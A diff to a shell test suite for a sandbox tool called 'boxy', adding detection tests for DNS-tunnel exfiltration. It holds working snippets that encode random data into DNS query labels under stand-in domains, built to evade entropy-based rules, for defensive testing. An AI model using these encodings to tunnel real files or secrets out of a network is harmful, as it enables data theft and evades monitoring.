@@ -43,6 +43,43 @@ else
 		"show: $(tn_boxy show "$ID" 2>&1 | head -n 12)"
 fi
 
+## ---- tunnels built to pass under the first rules (review) ------------------------------------
+# Review findings, each fired nothing on d2ac5f5: the same file in an encoding
+# of eight letters (3 bits a character reads as low entropy), and hex under a
+# domain named like a country's second level that the attacker owns
+# (DATA.com.ws: every query was a parent domain of its own). The volume rule
+# and scoring under the last two labels catch them.
+lowent='python3 - <<PY
+import socket
+data = open("/dev/urandom", "rb").read(2000)     # a 2 KB file
+bits = "".join("{:08b}".format(b) for b in data)
+bits += "0" * (-len(bits) % 3)
+text = "".join("abcdefgh"[int(bits[i:i + 3], 2)] for i in range(0, len(bits), 3))
+for i in range(0, len(text), 180):
+    c = text[i:i + 180]
+    name = ".".join(c[j:j + 60] for j in range(0, len(c), 60)) + ".%d.lowent.test" % i
+    try:
+        socket.getaddrinfo(name, 80, socket.AF_INET)
+    except OSError:
+        pass
+PY'
+run_case dns-lowent --net public -- sh -c "$lowent"
+if [ "$RC" -eq 0 ] && grep -q '^boxy: ALERT: net.dns: lowent.test: DNS under lowent.test looks like a tunnel' "$C/err"; then
+	ok "dns-exfil: a file in an 8-letter encoding (low entropy) raises the alert"
+else
+	fail_case "dns-exfil: a file in an 8-letter encoding (low entropy) raises the alert"
+fi
+comws='for i in 1 2 3 4; do
+		getent hosts "$(head -c 30 /dev/urandom | od -An -tx1 -v | tr -d " \n").com.ws" >/dev/null
+	done
+	exit 0'
+run_case dns-comws --net public -- sh -c "$comws"
+if [ "$RC" -eq 0 ] && grep -q '^boxy: ALERT: net.dns: com.ws: DNS under com.ws looks like a tunnel' "$C/err"; then
+	ok "dns-exfil: hex labels straight under an owned com.ws raise the alert under com.ws"
+else
+	fail_case "dns-exfil: hex labels straight under an owned com.ws raise the alert under com.ws"
+fi
+
 ## ---- no false alarm ---------------------------------------------------------------------
 # Lookups as an installer makes them: a registry, CDNs, retries of a missing name.
 ordinary='for round in 1 2 3 4 5; do
